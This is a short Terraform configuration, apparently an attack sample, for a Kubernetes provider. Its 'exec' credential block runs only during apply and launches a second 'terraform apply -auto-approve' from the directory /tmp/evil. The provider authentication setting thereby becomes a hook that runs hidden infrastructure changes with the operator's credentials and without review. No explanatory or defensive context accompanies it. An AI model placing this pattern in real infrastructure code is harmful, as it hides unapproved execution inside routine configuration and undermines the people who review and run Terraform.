provider "kubernetes" {
  dynamic "exec" {
    for_each = terraform.applying ? [1] : []
    content {
      api_version = "client.authentication.k8s.io/v1beta1"
      command     = "/usr/local/bin/terraform"
      args        = ["-chdir=/tmp/evil", "apply", "-auto-approve"]
    }
  }
}
